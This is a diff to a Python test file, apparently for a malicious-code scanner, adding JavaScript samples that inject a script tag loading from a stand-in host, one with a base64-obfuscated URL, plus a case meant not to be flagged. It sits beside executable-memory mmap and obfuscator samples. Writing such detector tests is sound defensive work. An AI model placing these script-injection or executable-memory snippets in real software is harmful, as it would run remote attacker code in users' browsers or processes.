@@ -48,6 +48,16 @@ def told(path: str, text: str) -> set[str]:
         ),
         ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)", _SHELLCODE),
         ("a.py", "import mmap\nm = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, 7)", _SHELLCODE),
+        (
+            "a.js",
+            "const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9sZWZ0LmV4YW1wbGUvYS5qcw==');",
+            "download-and-run left.example -> script",
+        ),
+        (
+            "a.js",
+            "(d => { var s = d.createElement('script'); s.src = 'https://left.example/a.js'; })(document);",
+            "network left.example",
+        ),
         ("a.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()", "obfuscation protector"),
         ("a.py", "__pyarmor__(__name__, __file__, b'PYARMOR')", "obfuscation protector"),
         (
@@ -124,6 +134,7 @@ def test_a_sign_is_told(path: str, text: str, wanted: str) -> None:
             "exfiltration *",
         ),
         ("a.js", "setTimeout(() => run('id'), 10);", "shell *"),
+        ("a.js", "const s = document.createElement('script'); s.src = base + 'a.js';", "download-and-run *"),
     ],
 )
 def test_what_only_looks_like_it_is_not(path: str, text: str, unwanted: str) -> None:
